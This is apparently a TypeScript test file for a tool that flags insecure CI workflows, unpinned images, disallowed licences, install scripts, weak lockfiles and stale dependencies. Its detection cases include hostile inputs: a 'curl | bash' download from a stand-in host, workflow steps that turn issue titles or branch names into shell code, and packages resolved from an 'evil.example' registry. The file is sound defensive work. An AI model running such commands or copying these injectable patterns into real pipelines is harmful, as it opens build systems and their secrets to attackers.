import { expect, test } from "vitest";
import { judgeGate } from "../judge-gate.ts";
import type { Gate } from "../judge-gate.ts";
import { aReading } from "../test-builders/a-report.ts";
import { GOOD_WORKFLOW, lockfileOf, outsideOf } from "../test-builders/security-samples.ts";

const SHA = "a".repeat(40);

function judgeWorkflow(text: string, path = ".github/workflows/ci.yml") {
  return judgeGate(
    { kind: "workflow-files", name: "workflows", family: "security" },
    aReading({ treeFiles: { [path]: text } }),
  );
}

test("a workflow with pinned actions and no rights passes", () => {
  expect(judgeWorkflow(GOOD_WORKFLOW)).toMatchObject({
    status: "pass",
    figure: "0 critical, 0 high, 0 medium, 0 low in 1 file",
  });
});

test.each([
  ["a tag", GOOD_WORKFLOW.replace(`@${SHA}`, "@v4"), "unpinned-action", 6],
  ["a short commit", GOOD_WORKFLOW.replace(SHA, "aaaaaaa"), "unpinned-action", 6],
  [
    "an action in an image by tag",
    GOOD_WORKFLOW.replace(`actions/checkout@${SHA}`, "docker://alpine:3"),
    "unpinned-action",
    6,
  ],
  ["no permissions", GOOD_WORKFLOW.replace("permissions: {}\n", ""), "no-permissions", 1],
  ["write-all", GOOD_WORKFLOW.replace("permissions: {}", "permissions: write-all"), "write-all", 1],
  [
    "a right for every job",
    GOOD_WORKFLOW.replace("permissions: {}", "permissions: { contents: write }"),
    "top-level-write",
    1,
  ],
  ["write-all of a job", GOOD_WORKFLOW.replace("  build:\n", "  build:\n    permissions: write-all\n"), "write-all", 5],
  [
    "a title that becomes code",
    GOOD_WORKFLOW.replace("./pipeline run", "echo ${{ github.event.issue.title }}"),
    "script-injection",
    7,
  ],
  [
    "a branch name that becomes code",
    GOOD_WORKFLOW.replace("./pipeline run", "echo ${{ github.head_ref }}"),
    "script-injection",
    7,
  ],
  [
    "a download that is run",
    GOOD_WORKFLOW.replace("./pipeline run", "curl -s https://x.example | bash"),
    "piped-into-shell",
    7,
  ],
  ["an image by tag", GOOD_WORKFLOW.replace("    steps:", "    container: node:24\n    steps:"), "unpinned-image", 5],
  [
    "a service by tag",
    GOOD_WORKFLOW.replace("    steps:", "    services:\n      db:\n        image: postgres:18\n    steps:"),
    "unpinned-image",
    7,
  ],
])("%s is found in its line", (...[, text, id, line]) => {
  const { offenders, status } = judgeWorkflow(text);
  expect(status).toBe("fail");
  expect(offenders).toEqual([{ file: ".github/workflows/ci.yml", line, message: expect.stringContaining(` ${id}: `) }]);
});

test("a stranger's code is not checked out where secrets are, and is elsewhere", () => {
  const checkout = "      - uses: actions/checkout@" + SHA;
  const head = GOOD_WORKFLOW.replace(
    checkout,
    `${checkout}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}`,
  );
  expect(judgeWorkflow(head.replace("on: push", "on: pull_request_target"))).toMatchObject({
    status: "fail",
    offenders: [{ line: 8 }],
  });
  expect(judgeWorkflow(head.replace("on: push", "on: [pull_request]")).status).toBe("pass");
});

test("GitLab: images by digest, nothing included from elsewhere; an alias is followed", () => {
  const judge = (text: string) => judgeWorkflow(text, ".gitlab-ci.yml");
  const pinned = `node@sha256:${"b".repeat(64)}`;
  expect(judge(`image: ${pinned}\nbuild: { script: [./pipeline run] }\n`).status).toBe("pass");
  expect(judge("image: { name: node:24 }\n").status).toBe("fail");
  expect(judge(`.x: &i node:24\nbuild: { image: *i }\n`)).toMatchObject({ status: "fail", offenders: [{ line: 2 }] });
  expect(judge(`image: ${pinned}\ninclude: { remote: "https://x.example/a.yml" }\n`).status).toBe("fail");
  expect(judge(`image: ${pinned}\ninclude: [{ project: a/b, ref: main, file: x.yml }]\n`).status).toBe("fail");
});

test("no workflow file, or one that is no YAML, is not measured", () => {
  expect(judgeWorkflow("x: 1", "README.md")).toMatchObject({
    status: "not-measured",
    reason: expect.stringContaining("no workflow file"),
  });
  expect(judgeWorkflow("a: [", ".gitlab-ci.yml").status).toBe("not-measured");
});

const LICENCES: Gate = {
  kind: "licences",
  name: "licences",
  family: "security",
  allowed: ["MIT", "Apache-2.0", "GPL-2.0-only WITH Classpath-exception-2.0"],
  allowedForDevelopment: ["MPL-2.0"],
  told: { "pg@8.20.0": "MIT" },
};

function judgeLicence(change: object, name = "ws") {
  const treeFiles = { "package-lock.json": lockfileOf({ [`node_modules/${name}`]: { ...change } }) };
  return judgeGate(LICENCES, aReading({ treeFiles }));
}

test.each([
  [{ license: "MIT" }, "pass"],
  [{ license: "(MIT OR GPL-3.0-only)" }, "pass"],
  [{ license: "(MIT AND GPL-3.0-only)" }, "fail"],
  [{ license: "GPL-2.0-only WITH Classpath-exception-2.0" }, "pass"],
  [{ license: "GPL-2.0-only" }, "fail"],
  [{ license: "MPL-2.0" }, "fail"],
  [{ license: "MPL-2.0", dev: true }, "pass"],
  [{ license: "SEE LICENSE IN LICENSE.md" }, "fail"],
  [{ license: "UNLICENSED" }, "fail"],
  [{ license: undefined }, "fail"],
  [{ license: ["MIT"] }, "fail"],
])("licence %j: %s", (change, status) => {
  expect(judgeLicence(change).status).toBe(status);
});

test("a licence found out by hand stands in for one that is not told; the offender has its line", () => {
  expect(judgeLicence({ license: undefined }, "pg").status).toBe("pass");
  expect(judgeLicence({ license: "GPL-3.0-only" }).offenders).toEqual([
    { file: "package-lock.json", line: 10, message: "ws@8.20.0 is under GPL-3.0-only" },
  ]);
});

test("an install script must be allowed by name with a reason, and npm must run none", () => {
  const judge = (npmrc: string, allowed: object[]) =>
    judgeGate(
      { kind: "install-scripts", name: "scripts", family: "security", allowed } as Gate,
      aReading({
        treeFiles: {
          ".npmrc": npmrc,
          "package-lock.json": lockfileOf({ "node_modules/esbuild": { hasInstallScript: true } }),
        },
      }),
    );
  const off = "ignore-scripts=true\n";
  expect(judge(off, [{ name: "esbuild", reason: "never run" }]).status).toBe("pass");
  expect(judge(off, [])).toMatchObject({
    status: "fail",
    offenders: [{ message: "esbuild@8.20.0 brings an install script" }],
  });
  expect(judge(off, [{ name: "esbuild", reason: "" }]).status).toBe("fail");
  expect(judge("# ignore-scripts=true\nignore-scripts = false\n", [{ name: "esbuild", reason: "x" }]).status).toBe(
    "fail",
  );
});

const MANIFEST = JSON.stringify({ dependencies: { pg: "8.20.0" } });

test.each([
  ["whole", {}, {}, "pass"],
  ["no integrity", { integrity: undefined }, {}, "fail"],
  ["a weak one", { integrity: "sha1-abc=" }, {}, "fail"],
  ["inside of another package", { integrity: undefined, inBundle: true }, {}, "pass"],
  ["another host", { resolved: "https://evil.example/pg.tgz" }, {}, "fail"],
  ["no https", { resolved: "http://registry.npmjs.org/pg.tgz" }, {}, "fail"],
  ["from git", { resolved: "git+ssh://git@github.com/a/b.git#abc" }, {}, "fail"],
  ["the registry", { resolved: "https://registry.npmjs.org/pg/-/pg-8.20.0.tgz" }, {}, "pass"],
  ["a manifest that wants more", {}, { "package.json": '{"dependencies":{"pg":"8.20.0","ws":"1.0.0"}}' }, "fail"],
  ["a workspace that is not locked", {}, { "apps/x/package.json": "{}" }, "fail"],
  ["another registry", {}, { ".npmrc": "@shop:registry=https://evil.example/\n" }, "fail"],
])("lockfile: %s", (...[, change, files, status]) => {
  const treeFiles = {
    "package.json": MANIFEST,
    "package-lock.json": lockfileOf({ "node_modules/pg": change }),
    ...files,
  };
  const gate: Gate = {
    kind: "lockfile-integrity",
    name: "lockfile",
    family: "security",
    allowedHosts: ["registry.npmjs.org"],
  };
  expect(judgeGate(gate, aReading({ treeFiles })).status).toBe(status);
});

/** A lockfile with ten direct dependencies, p0 to p9. */
const TEN = Array.from({ length: 10 }, (_, index) => `p${index}`);
const TEN_LOCKED = lockfileOf(Object.fromEntries(TEN.map((name) => [`node_modules/${name}`, { version: "1.0.0" }])), {
  dependencies: Object.fromEntries(TEN.map((name) => [name, "1.0.0"])),
});

test("less than a tenth may be behind by a major or minor version: none of ten is, one of ten is not", () => {
  const judge = (latest: string) =>
    judgeGate(
      {
        kind: "outdated",
        name: "outdated",
        family: "security",
        report: "o.json",
        belowPercent: 10,
        counted: ["major", "minor"],
        freshForMs: 3_600_000,
      },
      aReading({
        files: { "o.json": outsideOf({ p0: { current: "1.0.0", wanted: "1.0.0", latest } }) },
        treeFiles: { "package-lock.json": TEN_LOCKED },
      }),
    );
  expect(judge("1.0.1")).toMatchObject({ status: "pass", figure: "0.00 % (0 of 10 direct dependencies)" });
  expect(judge("1.1.0")).toMatchObject({ status: "fail", offenders: [{ message: "p0 1.0.0, latest 1.1.0 (minor)" }] });
  expect(judge("2.0.0").status).toBe("fail");
  expect(judge("latest?").status).toBe("fail");
});

test("a package that is held back is named and not counted, until its day", () => {
  const judge = (until: string) =>
    judgeGate(
      {
        kind: "outdated",
        name: "outdated",
        family: "security",
        report: "o.json",
        belowPercent: 10,
        counted: ["major"],
        freshForMs: 3_600_000,
        held: [{ name: "p0", owner: "ana", reason: "the runtime's line", until }],
      },
      aReading({
        files: { "o.json": outsideOf({ p0: [{ current: "1.0.0", wanted: "1.0.0", latest: "2.0.0" }] }) },
        treeFiles: { "package-lock.json": TEN_LOCKED },
      }),
    );
  expect(judge("2026-11-23")).toMatchObject({
    status: "pass",
    reason: expect.stringContaining("1 held back"),
    offenders: [{ message: "p0 1.0.0, latest 2.0.0 (major, held back)" }],
  });
  expect(judge("2026-11-22").status).toBe("fail");
});

test("a version must have been out for some days, on both sides of the limit; one that is not known is not measured", () => {
  const judge = (publishedAt: string, name = "pg") =>
    judgeGate(
      { kind: "release-age", name: "age", family: "security", report: "r.json", minimumDays: 7 },
      aReading({
        files: { "r.json": outsideOf({ packages: [{ name, version: "8.20.0", publishedAt }] }) },
        treeFiles: { "package-lock.json": lockfileOf() },
        now: "2026-11-23T06:00:00Z",
      }),
    );
  expect(judge("2026-11-16T06:00:00Z")).toMatchObject({ status: "pass", figure: "youngest 7 days, of 1 package" });
  expect(judge("2026-11-16T06:00:01Z")).toMatchObject({
    status: "fail",
    offenders: [{ message: "pg@8.20.0 was published 6 days ago" }],
  });
  expect(judge("some day").status).toBe("not-measured");
  expect(judge("2026-11-01T06:00:00Z", "other").status).toBe("not-measured");
});
